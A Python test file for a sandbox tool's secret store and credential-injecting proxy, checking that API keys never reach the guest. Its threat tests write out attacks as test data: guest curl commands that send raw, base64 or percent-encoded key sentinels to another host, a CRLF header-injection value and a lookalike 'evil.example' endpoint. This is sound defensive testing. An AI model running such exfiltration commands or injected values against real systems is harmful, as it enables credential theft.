"""Secrets that never enter the guest (issue 4), with one machine and servers on the host's loopback."""
import base64
import hashlib
import hmac
import json
import os
import pathlib
import re
import resource
import shlex
import shutil
import signal
import subprocess
import sys
import time
import unittest
import urllib.parse

sys.path.insert(0, str(pathlib.Path(__file__).parent))
import echo_server
from echo_server import EchoServer
from git_server import GitServer
from harness import SANITIZED, SBX, Home, alive, authority_key, in_memory, keys_in_plain, run, spellings_of_key, wait_for
from mock_provider import make_ca

KEY = "sk-proj-Zq8+real/KEY_0123456789abcdefXYZ"
AWS_ID, AWS_KEY = "AKIDREAL0123456789AB", "wJalrREAL/KEY+0123456789abcdefREALKEY0123"
TOKEN = "ghp_realTOKEN0123456789abcdefABCDEF0123"


def forms(secret):
    return [f for f in echo_server.spellings(secret).split("\n") if f != "the end"]


class Store(unittest.TestCase):
    """Without a machine."""

    def setUp(self):
        self.h = Home()
        self.addCleanup(self.h.close)

    def test_set_list_remove(self):
        h = self.h
        h.sbx("secret", "set", "-g", "openai", "--password-stdin", input=KEY.encode() + b"\n")
        out = h.sbx("secret", "ls") + h.sbx("secret", "ls", "--json")
        self.assertIn("api.openai.com", out)
        self.assertNotIn(KEY, out)
        for path in (h.dir / "data/sbx").rglob("*"):
            if path.is_file() and not path.is_symlink():
                self.assertNotIn(KEY.encode(), path.read_bytes(), path)
        self.assertEqual((h.dir / "data/sbx/secrets/store.json").stat().st_mode & 0o777, 0o600)
        self.assertEqual((h.dir / "data/sbx/secrets/key").stat().st_mode & 0o777, 0o600)
        h.sbx("secret", "rm", "-g", "openai")
        self.assertEqual(json.loads(h.sbx("secret", "ls", "--json")), [])
        self.assertEqual(h.run("secret", "rm", "-g", "openai").returncode, 3)

    def test_sources_and_bad_input(self):
        h = self.h
        h.sbx("secret", "set", "-g", "groq", "--from-env", "MY_KEY", env={"MY_KEY": "gsk_0123456789abcdef"})
        (h.dir / "key.txt").write_text("xai-0123456789abcdef\n")
        h.sbx("secret", "set", "-g", "xai", "--from-file", h.dir / "key.txt")
        h.sbx("secret", "set", "-g", "mistral", "--command", "echo mistral-0123456789")
        r = h.run("secret", "set", "-g", "github", "-t", TOKEN)
        self.assertEqual(r.returncode, 0, r.stderr)
        self.assertIn(b"history", r.stderr)
        self.assertEqual(len(json.loads(h.sbx("secret", "ls", "--json"))), 4)
        before = (h.dir / "data/sbx/secrets/store.json").read_bytes()
        (h.dir / "link").symlink_to(h.dir / "key.txt")
        os.mkfifo(h.dir / "fifo")
        for bad in (["-g", "openai", "--password-stdin"], ["-g", "nonsense", "--from-env", "MY_KEY"], ["-g", "openai", "--from-env", "NOT_SET"],
                    ["-g", "openai"], ["openai", "--password-stdin"], ["-g", "openai", "--from-file", h.dir / "link"],
                    ["-g", "openai", "--from-file", h.dir / "fifo"], ["-g", "openai", "--from-file", "/dev/zero"],
                    ["-g", "openai", "-t", "has a space in it"], ["-g", "openai", "-t", "short"], ["-g", "openai", "-t", "a\r\nX-Evil: 1234567"],
                    ["-g", "openai", "--form", "no-such-form", "-t", KEY]):
            r = h.run("secret", "set", *bad, input=b"", timeout=60)
            self.assertNotEqual(r.returncode, 0, bad)
            self.assertEqual(len(r.stderr.decode().strip().split("\n")) , 2 if b"history" in r.stderr else 1, (bad, r.stderr))
        self.assertEqual((h.dir / "data/sbx/secrets/store.json").read_bytes(), before)

    test_threat_70_a_value_with_line_breaks_is_refused = test_sources_and_bad_input
    test_threat_76_links_pipes_and_devices_are_not_read = test_sources_and_bad_input

    def test_damage_is_told_and_loses_nothing(self):
        h = self.h
        h.sbx("secret", "set", "-g", "openai", "-t", KEY)
        store = h.dir / "data/sbx/secrets/store.json"
        good = store.read_text()
        o = json.loads(good)
        sentences = set()
        for damaged in (good[:100], json.dumps({**o, "version": o["version"] + 1}), json.dumps({**o, "data": o["data"][:40] + "AAAA" + o["data"][44:]})):
            store.write_text(damaged)
            r = h.run("secret", "ls")
            self.assertEqual(r.returncode, 1)
            sentences.add(r.stderr)
            r = h.run("secret", "set", "-g", "groq", "-t", "gsk_0123456789abcdef")
            self.assertEqual(r.returncode, 1)
            self.assertEqual(store.read_text(), damaged)
        store.write_text(good)
        key = h.dir / "data/sbx/secrets/key"
        key.chmod(0o644)
        sentences.add(h.run("secret", "ls").stderr)
        key.chmod(0o600)
        self.assertGreaterEqual(len(sentences), 3, sentences)
        self.assertIn("openai", h.sbx("secret", "ls"))

    def test_passphrase(self):
        h = self.h
        h.sbx("secret", "set", "-g", "openai", "-t", KEY)
        h.sbx("secret", "lock", "--passphrase", "--password-stdin", input=b"correct horse battery\n")
        (h.dir / "pass").write_text("wrong horse battery\n")
        # The kernel's keyring may remember the key for this user: a copy of the store with another salt does not profit.
        r = h.run("secret", "ls")
        self.assertEqual(r.returncode, 0, r.stderr)
        store = h.dir / "data/sbx/secrets/store.json"
        o = json.loads(store.read_text())
        o["wrap"]["salt"] = base64.b64encode(os.urandom(16)).decode()
        store.write_text(json.dumps(o))
        r = h.run("secret", "ls", env={"SBX_PASSPHRASE_FILE": str(h.dir / "pass")})
        self.assertEqual(r.returncode, 1)
        self.assertIn(b"passphrase", r.stderr)
        # Whoever waits for the passphrase shows no value in the list of processes.
        os.mkfifo(h.dir / "asked")
        p = subprocess.Popen([SBX, "secret", "rotate", "-g", "openai", "-t", KEY], env={**h.env, "SBX_PASSPHRASE_FILE": str(h.dir / "asked")},
                             stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        try:
            self.assertTrue(wait_for(lambda: KEY.encode() not in pathlib.Path(f"/proc/{p.pid}/cmdline").read_bytes(), 3))
            self.assertIsNone(p.poll())
        finally:
            with open(h.dir / "asked", "w") as f:
                f.write("wrong horse battery\n")
            p.wait(60)

    @unittest.skipUnless(shutil.which("gnome-keyring-daemon") and shutil.which("dbus-run-session"), "gnome-keyring is not installed")
    def test_keyring_of_the_user(self):
        """The Secret Service of a session bus of its own: a new store takes it, and is worth nothing without it."""
        h = self.h
        script = h.dir / "with-keyring"
        script.write_text('#!/bin/sh\nset -e\nprintf %s pass | gnome-keyring-daemon --unlock --components=secrets >/dev/null 2>&1\n'
                          f'exec {shlex.quote(sys.executable)} -c "$1"\n')
        script.chmod(0o755)
        inside = f"""
import json, pathlib, subprocess
def sbx(*a, status=0):
    r = subprocess.run([{SBX!r}, *a], capture_output=True, text=True, stdin=subprocess.DEVNULL)
    assert r.returncode == status, (a, r.returncode, r.stdout, r.stderr)
    return r.stdout + r.stderr
store = pathlib.Path({str(h.dir / "data/sbx/secrets/store.json")!r})
# What a start makes for the authority opens without a keyring as well; the first secret takes it.
sbx("image", "seed")
certificate = (store.parents[1] / "ca/cert.pem").read_bytes()
assert json.loads(store.read_text())["wrap"]["kind"] == "keyfile", store.read_text()[:200]
print(sbx("secret", "set", "-g", "openai", "-t", {KEY!r}))
assert "bridge" not in store.read_text()
sbx("image", "seed")
assert (store.parents[1] / "ca/cert.pem").read_bytes() == certificate
assert json.loads(store.read_text())["wrap"]["kind"] == "keyring", store.read_text()[:200]
assert not (store.parent / "key").exists()
assert "keyring" in sbx("secret", "lock")
sbx("secret", "lock", "--passphrase", "--password-stdin", status=2)
sbx("secret", "lock", "--keyfile")
assert "keyfile" in store.read_text()
sbx("secret", "lock", "--keyring")
print(sbx("secret", "ls"))
# Another id, which neither the keyring nor the kernel knows.
o = json.loads(store.read_text())
o["wrap"]["id"] = "0" * 32
store.write_text(json.dumps(o))
print(sbx("secret", "ls", status=1))
"""
        (h.dir / "home/.local/share").mkdir(parents=True)
        env = {k: v for k, v in h.env.items() if k != "DBUS_SESSION_BUS_ADDRESS"}
        r = run(["dbus-run-session", "--", str(script), inside], 180, env=env, text=True)
        self.assertEqual(r.returncode, 0, r.stdout + r.stderr)
        self.assertIn("openai", r.stdout)
        self.assertIn("does not have the key", r.stdout)
        self.assertNotIn(KEY, r.stdout + r.stderr)
        # Without the bus: a sentence, not a crash.
        r = h.run("secret", "ls", env={"DBUS_SESSION_BUS_ADDRESS": "unix:path=/nonexistent"})
        self.assertEqual(r.returncode, 1)
        self.assertIn(b"keyring", r.stderr)

    def test_the_authority_is_no_secret(self):
        """Of what lies in the store with the secrets no command tells; who puts the store away gets another one, and is told."""
        h = self.h
        h.sbx("image", "seed")
        store, certificate = h.dir / "data/sbx/secrets/store.json", h.dir / "data/sbx/ca/cert.pem"
        key, was = authority_key(h), certificate.read_bytes()
        self.assertEqual(keys_in_plain(h, key), [])
        self.assertEqual(json.loads(h.sbx("secret", "ls", "--json")), [])
        for name in ("authority", "certificate", "ca", "key"):
            self.assertEqual(h.run("secret", "rm", "-g", name).returncode, 3)
            self.assertNotEqual(h.run("secret", "test", name).returncode, 0)
        self.assertIn(b"0 secrets", h.run("secret", "unlock").stderr)
        h.sbx("secret", "set", "-g", "openai", "-t", KEY)
        h.sbx("secret", "lock", "--keyfile")
        h.sbx("secret", "rm", "-g", "openai")
        self.assertEqual((authority_key(h), certificate.read_bytes()), (key, was))
        store.unlink()
        doctor = {x["check"]: x for x in json.loads(h.run("doctor", "--json").stdout)}
        self.assertIn("remove the folder", doctor["certificate authority of the sandboxes"]["detail"])
        r = h.run("secret", "set", "-g", "openai", "--password-stdin", input=KEY.encode())
        self.assertEqual((r.returncode, b"another certificate authority" in r.stderr), (0, True), r.stderr)
        self.assertNotEqual(authority_key(h), key)
        self.assertNotEqual(certificate.read_bytes(), was)
        self.assertNotIn("certificate authority of the sandboxes", [x["check"] for x in json.loads(h.run("doctor", "--json").stdout)])

    def test_threat_75_a_disk_with_a_secret_is_not_saved(self):
        """Of a sandbox that does not run; class Saved does the same with a machine."""
        h = self.h
        h.sbx("secret", "set", "-g", "openai", "--password-stdin", input=KEY.encode())
        h.sbx("create", "--name", "t", "shell", h.ws)
        disk = h.dir / "data/sbx/sandboxes/t/disk"
        for text in (KEY, base64.b64encode(b"a" + KEY.encode()).decode(), urllib.parse.quote(KEY, safe="")):
            with open(disk, "wb") as f:
                f.truncate(1 << 30)
                f.seek(300 << 20)
                f.write(text.encode())
            r = h.run("template", "save", "t", "leaks:v1")
            self.assertEqual(r.returncode, 1, r.stderr)
            self.assertIn(b"openai", r.stderr)
            self.assertNotIn(KEY.encode(), r.stderr + r.stdout)
            self.assertFalse((h.dir / "data/sbx/templates/leaks:v1").exists())
        h.sbx("secret", "lock", "--passphrase", "--password-stdin", input=b"correct horse battery\n")
        store = h.dir / "data/sbx/secrets/store.json"
        store.write_text(store.read_text()[:100])
        r = h.run("template", "save", "t", "leaks:v1")  # unseen, it is not saved either
        self.assertEqual(r.returncode, 1)
        self.assertIn(b"--force", r.stderr)

    def test_a_key_that_would_enter_the_sandbox_is_told(self):
        h = self.h
        r = h.run("create", "--name", "e", "-e", "OPENAI_API_KEY", "-e", "LOG_LEVEL=debug-everything", "shell", h.ws, env={"OPENAI_API_KEY": KEY})
        self.assertEqual(r.returncode, 0, r.stderr)
        self.assertIn(b"sbx secret set -g openai --from-env OPENAI_API_KEY", r.stderr)
        self.assertNotIn(b"LOG_LEVEL", r.stderr)
        for shown in (r.stdout + r.stderr, h.run("inspect", "e").stdout):
            self.assertNotIn(KEY.encode(), shown)

    def test_writers_at_once_lose_nothing(self):
        h = self.h
        names = [s["name"] for s in json.loads(h.sbx("secret", "services", "--json"))]
        writers = [subprocess.Popen([SBX, "secret", "set", "-g", n, "--password-stdin"], env=h.env, stdin=subprocess.PIPE, stderr=subprocess.DEVNULL) for n in names]
        writers += [subprocess.Popen([SBX, "secret", "lock", "--keyfile"], env=h.env, stdin=subprocess.PIPE, stdout=subprocess.DEVNULL) for _ in range(3)]
        for p in writers:
            p.stdin.write(b"a-value:0123456789")
            p.stdin.close()
        self.assertEqual({p.wait(180) for p in writers}, {0})
        self.assertEqual(sorted(r["service"] for r in json.loads(h.sbx("secret", "ls", "--json"))), sorted(names))
        self.assertEqual(sorted(os.listdir(h.dir / "data/sbx/secrets")), ["key", "store.json", "store.json.lock"])

    def test_own_service(self):
        h = self.h
        h.sbx("secret", "set", "-g", "acme", "--host", "api.acme.example", "--header", "X-Acme-Key", "-t", "acme-0123456789abcdef")
        row = json.loads(h.sbx("secret", "ls", "--json"))[0]
        self.assertEqual((row["service"], row["hosts"]), ("acme", "api.acme.example"))
        r = h.run("secret", "set", "-g", "all", "--host", "*.com", "-t", "acme-0123456789abcdef")
        self.assertEqual(r.returncode, 2)
        self.assertIn(b"*.com", r.stderr)
        # A value that is refused leaves no service behind; one that sbx knows is not replaced in silence, and comes back.
        self.assertNotEqual(h.run("secret", "set", "-g", "half", "--host", "api.half.example", "-t", "short").returncode, 0)
        self.assertNotIn("half", h.sbx("secret", "services"))
        r = h.run("secret", "set", "-g", "groq", "--host", "llm.corp.example", "--password-stdin", input=b"gsk_0123456789abcdef")
        self.assertEqual(r.returncode, 0, r.stderr)
        own = re.search(rb"remove (\S+)", r.stderr)[1].decode()
        hosts = lambda: next(r["hosts"] for r in json.loads(h.sbx("secret", "ls", "--json")) if r["service"] == "groq")
        self.assertEqual(hosts(), "llm.corp.example")
        pathlib.Path(own).unlink()
        self.assertEqual(hosts(), "api.groq.com")

    def test_import_takes_what_the_agents_have(self):
        """Keys of variables, sign-ins of files with the time of their end: else nobody would renew them."""
        h = self.h
        home, soon = h.dir / "home", int(time.time()) + 3000
        token = ".".join(base64.urlsafe_b64encode(json.dumps(x).encode()).decode().rstrip("=") for x in ({"alg": "none"}, {"exp": soon + 7})) + ".c2lnbmVk"
        for path, text in ((".claude/.credentials.json", {"claudeAiOauth": {"accessToken": "sk-ant-oat01-0123456789abcdef", "refreshToken": "sk-ant-ort01-0123456789",
                                                                            "expiresAt": soon * 1000}}),
                           (".codex/auth.json", {"OPENAI_API_KEY": None, "tokens": {"access_token": token, "refresh_token": "rt_0123456789abcdef"}})):
            (home / path).parent.mkdir()
            (home / path).write_text(json.dumps(text))
        env = {"GEMINI_API_KEY": "AIza0123456789abcdef", "GROQ_API_KEY": "bad value"}
        r = h.run("secret", "import", env=env)
        self.assertEqual((r.returncode, sorted(line.split(b":")[0] for line in r.stdout.splitlines())), (0, [b"anthropic", b"gemini", b"openai"]), r)
        self.assertEqual(json.loads(h.sbx("secret", "ls", "--json")), [])  # nothing without being told to
        r = h.run("secret", "import", "--yes", env=env)
        self.assertEqual(r.returncode, 0, r.stderr)
        for value in (token.encode(), b"0123456789"):
            self.assertNotIn(value, r.stdout + r.stderr)
        rows = {x["service"]: (x["form"], x["expires"], x["renewable"]) for x in json.loads(h.sbx("secret", "ls", "--json"))}
        self.assertEqual(rows, {"anthropic": ("oauth", soon, True), "openai": ("oauth", soon + 7, True), "gemini": ("key", 0, False)})


    def test_import_reads_what_each_tool_writes(self):
        """YAML of gh, variables of Gemini, TOML of cargo, lines of npm, a file that is a token, sign-ins of opencode, parts of AWS."""
        h, home = self.h, self.h.dir / "home"
        for path, text in ((".config/gh/hosts.yml", "ghe.corp.example:\n    oauth_token: gho_ofTheCorporation000000\ngithub.com:\n    users:\n        me:\n"
                            "            oauth_token: gho_ofGithub0123456789abcd\n    git_protocol: https\n    user: me\n"),
                           (".gemini/.env", "# keys\nexport GEMINI_API_KEY=\"AIza0123456789abcdefGEM\"\nOTHER=1\n"),
                           (".cargo/credentials.toml", "[registries.corp]\ntoken = \"cio-of-the-corporation\"\n[registry]\ntoken = \"cio0123456789abcdef\"\n"),
                           (".npmrc", "//npm.corp.example/:_authToken=npm_ofTheCorporation000\n//registry.npmjs.org/:_authToken=npm_0123456789abcdef\n"),
                           (".cache/huggingface/token", "hf_0123456789abcdef"),
                           (".local/share/opencode/auth.json", json.dumps({"anthropic": {"type": "oauth", "access": "sk-ant-oat01-0123456789abcdef",
                            "refresh": "sk-ant-ort01-0123456789", "expires": 1999999999000}, "groq": {"type": "api", "key": "gsk_0123456789abcdef"}}))):
            (home / path).parent.mkdir(parents=True, exist_ok=True)
            (home / path).write_text(text)
        r = h.run("secret", "import", "--yes", env={"AWS_ACCESS_KEY_ID": AWS_ID, "AWS_SECRET_ACCESS_KEY": AWS_KEY, "AWS_SESSION_TOKEN": "a-token/0123456789=="})
        self.assertEqual(r.returncode, 0, r.stderr)
        rows = {x["service"]: (x["form"], x["renewable"]) for x in json.loads(h.sbx("secret", "ls", "--json"))}
        self.assertEqual(rows, {"github": ("key", False), "gemini": ("key", False), "cargo": ("key", False), "npm": ("key", False), "huggingface": ("key", False),
                                "anthropic": ("oauth", True), "groq": ("key", False), "aws": ("key", False)})
        # The right ones: the next test's server sees what goes out.
        sent = self.ask_providers(h, rows)
        self.assertEqual(sent["github"]["authorization"], "Bearer gho_ofGithub0123456789abcd")
        self.assertEqual(sent["gemini"]["x-goog-api-key"], "AIza0123456789abcdefGEM")
        self.assertEqual(sent["npm"]["authorization"], "Bearer npm_0123456789abcdef")
        self.assertEqual(sent["huggingface"]["authorization"], "Bearer hf_0123456789abcdef")
        self.assertEqual(sent["aws"]["x-amz-security-token"], "a-token/0123456789==")
        self.assertNotIn("cargo", sent)
        # What stands for another place is no value.
        (home / ".npmrc").write_text("//registry.npmjs.org/:_authToken=${NPM_TOKEN_OF_CI}\n")
        h.sbx("secret", "rm", "-g", "npm")
        self.assertNotIn(b"npm", h.run("secret", "import", "--yes").stdout)

    def ask_providers(self, h, names, status=200):
        """`sbx secret test` of each against a server under the provider's name: what it was sent.  A service without a test is left out."""
        services = {s["name"]: s for s in json.loads(h.sbx("secret", "services", "--json")) if s["name"] in names and "url" in s.get("test", {})}
        hosts = {n: urllib.parse.urlsplit(s["test"]["url"].replace("{AZURE_OPENAI_ENDPOINT}", "mine.openai.azure.com")).hostname for n, s in services.items()}
        h.env["AZURE_OPENAI_ENDPOINT"] = "https://Mine.openai.azure.com/"
        ca, certificate = make_ca(h.dir / "ca", *hosts.values())
        server = EchoServer(certificate, app=lambda path, headers, body: (status, b"{}"))
        self.addCleanup(server.close)
        h.sbx("config", "set", "net.ca", ca)
        h.sbx("config", "set", "net.map", ",".join(f"{host}:443=127.0.0.1:{server.port}" for host in hosts.values()))
        sent = {}
        for name, host in hosts.items():
            r = h.run("secret", "test", name)
            self.assertEqual(r.returncode, {200: 0, 401: 4, 403: 4, services[name]["test"].get("denies"): 4}.get(status, 1), (name, r.stderr))
            self.assertIn(host.encode(), r.stdout + r.stderr)
            self.assertIn(str(status).encode(), r.stdout + r.stderr)
            method, path, headers = server.seen[-1]
            self.assertEqual((method, headers["host"]), ("POST" if "content" in services[name]["test"] else "GET", host))
            self.assertEqual(path, "/" + services[name]["test"]["url"].split("/", 3)[3])
            sent[name] = dict(headers, content=server.bodies[-1].decode())
        return sent

    def test_each_service_that_can_be_tested_is(self):
        h, values = self.h, {}
        for s in json.loads(h.sbx("secret", "services", "--json")):
            if "url" not in s["test"]:
                self.assertNotIn("url", s["test"])
                h.sbx("secret", "set", "-g", s["name"], "--password-stdin", input=b"user:0123456789abcdef")
                r = h.run("secret", "test", s["name"])
                self.assertEqual((r.returncode, r.stderr.decode().count("\n")), (1, 1))
                self.assertIn(f"cannot be tested: {s['test']['none']}", r.stderr.decode())
                continue
            form = next(iter(s["forms"].values()))
            values[s["name"]] = {"aws": f"{AWS_ID}:{AWS_KEY}", "docker": "hubuser:dckr_pat_0123456789abcdef", "google": "ya29.0123456789+/abcdef"}.get(s["name"], form.get("prefix", "") + "0123456789abcdef-" + s["name"])
            h.sbx("secret", "set", "-g", s["name"], "--password-stdin", input=values[s["name"]].encode())
        self.assertGreaterEqual(len(values), 20)
        # The variables that clients look at, of which some take one and some the other.
        read = {s["name"]: {v for f in s["forms"].values() for v in f["env"]} for s in json.loads(h.sbx("secret", "services", "--json"))}
        for name, names in {"anthropic": "ANTHROPIC_API_KEY CLAUDE_CODE_OAUTH_TOKEN", "openai": "OPENAI_API_KEY CODEX_API_KEY CODEX_ACCESS_TOKEN",
                            "github": "GH_TOKEN GITHUB_TOKEN COPILOT_GITHUB_TOKEN", "gemini": "GEMINI_API_KEY GOOGLE_API_KEY", "bedrock": "AWS_BEARER_TOKEN_BEDROCK",
                            "aws": "AWS_ACCESS_KEY_ID AWS_SECRET_ACCESS_KEY AWS_SESSION_TOKEN", "azure-openai": "AZURE_OPENAI_API_KEY",
                            "huggingface": "HF_TOKEN HUGGING_FACE_HUB_TOKEN", "droid": "FACTORY_API_KEY", "gitlab": "GITLAB_TOKEN", "npm": "NODE_AUTH_TOKEN",
                            "cargo": "CARGO_REGISTRY_TOKEN", "cursor": "CURSOR_API_KEY"}.items():
            self.assertGreaterEqual(read[name], set(names.split()), name)
        sent = self.ask_providers(h, values)
        for name, headers in sent.items():
            basic = base64.b64encode(values[name].encode()).decode()
            form = urllib.parse.quote(values[name], safe="")
            found = [v for k, v in headers.items() if values[name] in v or basic in v or v == f"access_token={form}" or v.startswith(f"AWS4-HMAC-SHA256 Credential={AWS_ID}/")]
            self.assertEqual(len(found), 1, (name, headers))
        self.ask_providers(h, ["openai", "aws"], 403)
        self.ask_providers(h, ["google"], 400)
        self.ask_providers(h, ["cursor"], 400)
        # A host of the user's own is asked for, and is one of the service's.
        for endpoint, why in (("", "AZURE_OPENAI_ENDPOINT"), ("https://a@b.openai.azure.com", "AZURE_OPENAI_ENDPOINT"), ("https://evil.example/x.openai.azure.com", "not written")):
            r = h.run("secret", "test", "azure-openai", env={"AZURE_OPENAI_ENDPOINT": endpoint})
            self.assertEqual(r.returncode, 1)
            self.assertIn(why, r.stderr.decode())
        self.ask_providers(h, ["openai"], 500)

    def test_threat_74_commands_leave_no_core_either(self):
        """Their arguments, environment and buffers hold values, too."""
        h = self.h
        p = subprocess.Popen(["prlimit", "--core=unlimited:unlimited", SBX, "secret", "set", "-g", "openai", "--password-stdin"],
                             env={**h.env, "MY_KEY": KEY, "ASAN_OPTIONS": "handle_segv=0"}, cwd=h.ws, stdin=subprocess.PIPE)
        try:
            limits = pathlib.Path(f"/proc/{p.pid}/limits")
            self.assertTrue(wait_for(lambda: re.search(r"Max core file size +0 +0", limits.read_text()), 5), limits.read_text())
        finally:
            os.kill(p.pid, signal.SIGSEGV)
            p.communicate()
        self.assertEqual(p.returncode, -signal.SIGSEGV)
        self.assertEqual(list(h.ws.iterdir()), [])


class Guest(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.h = h = Home()
        names = ["api.openai.com", "github.com", "other.example", "api.acme.example", "api.changing.example", "gist.github.com", "bedrock-runtime.us-east-1.amazonaws.com"]
        ca, certificate = make_ca(h.dir / "ca", *names)
        cls.one = EchoServer(certificate)
        cls.two = EchoServer(certificate, ("h2", "http/1.1") if echo_server.h2 else ("http/1.1",))
        cls.plain = EchoServer()
        (h.dir / "git").mkdir()
        cls.git = GitServer(certificate, h.dir / "git", TOKEN)
        h.sbx("config", "set", "net.ca", ca)
        h.sbx("config", "set", "net.map", f"api.openai.com:443=127.0.0.1:{cls.one.port},github.com:443=127.0.0.1:{cls.two.port},"
              f"other.example:443=127.0.0.1:{cls.one.port},api.openai.com:80=127.0.0.1:{cls.plain.port},api.acme.example:443=127.0.0.1:{cls.two.port},"
              f"api.changing.example:443=127.0.0.1:{cls.two.port},gist.github.com:443=127.0.0.1:{cls.git.port},bedrock-runtime.us-east-1.amazonaws.com:443=127.0.0.1:{cls.one.port}")
        h.sbx("secret", "set", "-g", "aws", "--password-stdin", input=f"{AWS_ID}:{AWS_KEY}".encode())
        h.sbx("policy", "allow", "network", "-g", "api.openai.com,github.com,gist.github.com,bedrock-runtime.us-east-1.amazonaws.com,GET other.example/,api.acme.example,api.changing.example")
        (h.dir / "printed").write_text("printed-first-0123456789")
        h.sbx("secret", "set", "-g", "changing", "--host", "api.changing.example", "--command", f"cat {h.dir}/printed", "--ttl", "10s")
        h.sbx("secret", "set", "-g", "openai", "--password-stdin", input=KEY.encode())
        h.sbx("secret", "set", "-g", "github", "--password-stdin", input=TOKEN.encode())
        h.sbx("create", "--name", "s", "shell", h.ws)
        h.sbx("start", "s", env={"OPENAI_API_KEY": KEY, "GH_TOKEN": TOKEN})  # as in the shell of whoever has them there

    @classmethod
    def tearDownClass(cls):
        for s in (cls.one, cls.two, cls.plain):
            s.close()
        cls.git.shutdown()
        cls.git.server_close()
        cls.h.close()

    def sh(self, script, status=0):
        r = self.h.sh("s", script)
        self.assertEqual(r.returncode, status, r.stdout[-2000:] + r.stderr[-2000:])
        return r.stdout.decode(errors="replace")

    def check_clean(self, text, secret):
        for f in forms(secret):
            self.assertNotIn(f, text)

    def test_key_is_written_and_never_comes_back(self):
        began = time.time()
        self.one.seen.clear()
        sentinel = self.sh("printf %s $OPENAI_API_KEY")
        self.assertEqual(len(sentinel), len(KEY))
        self.assertNotEqual(sentinel, KEY)
        self.assertTrue(sentinel.startswith("sk-proj-"))
        out = self.sh("curl -sSi https://api.openai.com/v1/echo -H \"Authorization: Bearer $OPENAI_API_KEY\"")
        self.assertEqual(self.one.seen[-1][2]["authorization"], f"Bearer {KEY}")
        self.assertEqual(self.one.seen[-1][2]["accept-encoding"], "identity")
        self.check_clean(out, KEY)
        for f in (sentinel, base64.b64encode(sentinel.encode()).decode(), json.dumps(sentinel)):
            self.assertIn(f, out)
        self.assertIn("the end", out)
        row = [r for r in json.loads(self.h.sbx("secret", "ls", "--json")) if r["service"] == "openai"][0]
        self.assertTrue(began - 5 < row["last_use"] < time.time() + 5, (began, row))

    def test_threat_65_every_split_chunked_events_and_compressed(self):
        for path in ("/split", "/events"):
            out = self.sh(f"curl -sSi https://api.openai.com{path}")
            self.assertEqual(self.one.seen[-1][2]["authorization"], f"Bearer {KEY}")
            self.check_clean(out, KEY)
            self.assertIn(self.sh("printf %s $OPENAI_API_KEY"), out)
        out = self.sh("curl -sSi --compressed https://api.openai.com/gzip")
        self.assertIn("502", out.split("\n")[0])
        self.check_clean(out, KEY)

    def test_http2_with_trailers(self):
        if not echo_server.h2:
            self.skipTest("python3-h2 is not installed")
        out = self.sh("curl -sSi --http2 https://github.com/x/y.git/info/refs?service=git-upload-pack")
        self.assertIn("HTTP/2 200", out)
        self.assertEqual(self.two.seen[-1][2]["authorization"], "Basic " + base64.b64encode(f"x-access-token:{TOKEN}".encode()).decode())
        self.check_clean(out, TOKEN)
        self.assertIn("the end", out)

    def test_threat_38_websocket(self):
        out = self.sh("curl -sSi --http1.1 -N --max-time 60 https://api.openai.com/ws -H 'Connection: Upgrade' -H 'Upgrade: websocket' "
                      "-H 'Sec-WebSocket-Version: 13' -H 'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==' -H 'Sec-WebSocket-Extensions: permessage-deflate' || true")
        self.assertIn("101", out.split("\n")[0])
        self.assertNotIn("sec-websocket-extensions", self.one.seen[-1][2])
        sentinel = self.sh("printf %s $OPENAI_API_KEY")
        self.assertNotIn(KEY, out)
        self.assertNotIn(KEY[:len(KEY) // 2], out)
        self.assertNotIn(KEY[len(KEY) // 2:], out)
        self.assertEqual(out.count(sentinel), 1)  # the second has a frame's head in its middle
        self.assertIn("ping", out)

    def test_threat_73_another_accounts_key_is_replaced(self):
        self.sh("curl -sS https://api.openai.com/v1/x -H 'Authorization: Bearer sk-attacker' -H 'authorization: Bearer sk-two' -H 'X-Api-Key: sk-three' -H 'Cookie: session=four' -o /dev/null")
        sent = self.one.seen[-1][2]
        self.assertEqual(sent["authorization"], f"Bearer {KEY}")
        self.assertNotIn("x-api-key", sent)
        self.assertNotIn("cookie", sent)

    def test_threat_63_sentinel_to_another_host_is_blocked_with_an_alert(self):
        n = len(self.one.seen)
        for i, how in enumerate(('-H "X-Anything: $OPENAI_API_KEY"', '-H "Authorization: Basic $(printf user:$OPENAI_API_KEY | base64 -w0)"',
                    '-H "X-Json: $(printf %s "$OPENAI_API_KEY" | od -An -tx1 -v | tr -d \' \\n\' | sed \'s/../%&/g\')"')):
            out = self.sh(f"curl -sSi https://other.example/{i} {how}")
            self.assertIn("403", out.split("\n")[0], how)
        self.assertEqual(len(self.one.seen), n)
        rows = lambda: json.loads(self.h.sbx("policy", "log", "s", "--raw", "--json", "--host", "other.example"))
        self.assertTrue(wait_for(lambda: len([r for r in rows() if r["kind"] == "alert"]) >= 3), rows())
        alerts = [r for r in rows() if r["kind"] == "alert"]
        self.assertIn("openai", alerts[0]["reason"])
        self.sh("curl -sSf https://other.example/plain -o /dev/null")

    test_threat_64_encoded_sentinels_are_blocked = test_threat_63_sentinel_to_another_host_is_blocked_with_an_alert

    def test_threat_72_nothing_is_written_on_plain_http(self):
        self.sh("curl -sS http://api.openai.com/x -H 'Authorization: Bearer nothing' -o /dev/null")
        self.assertEqual(self.plain.seen[-1][2]["authorization"], "Bearer nothing")
        n = len(self.plain.seen)
        out = self.sh('curl -sSi http://api.openai.com/x -H "Authorization: Bearer $OPENAI_API_KEY"')
        self.assertIn("403", out.split("\n")[0])
        self.assertEqual(len(self.plain.seen), n)

    def test_secrets_change_while_it_runs(self):
        h = self.h
        h.sbx("secret", "set", "-g", "acme", "--host", "api.acme.example", "--header", "X-Api-Key", "-t", "acme-first-0123456789")
        def sent():
            self.sh("curl -sSk --http1.1 https://api.acme.example/ -o /dev/null")
            return self.two.seen[-1][2].get("x-api-key")
        # Each command returns when what runs has the change: the very next session does.
        sentinel = self.sh("printf %s $ACME_API_KEY")
        self.assertEqual(len(sentinel), len("acme-first-0123456789"))
        self.assertEqual(sent(), "acme-first-0123456789")
        h.sbx("secret", "rotate", "-g", "acme", "-t", "acme-second-98765432109")
        self.assertEqual(sent(), "acme-second-98765432109")
        self.assertEqual(self.sh("printf %s $ACME_API_KEY"), sentinel)
        h.sbx("secret", "rm", "-g", "acme")
        self.assertEqual(self.sh("printf %s $ACME_API_KEY"), "")
        self.assertIsNone(sent())

    def test_what_a_command_prints_is_renewed(self):
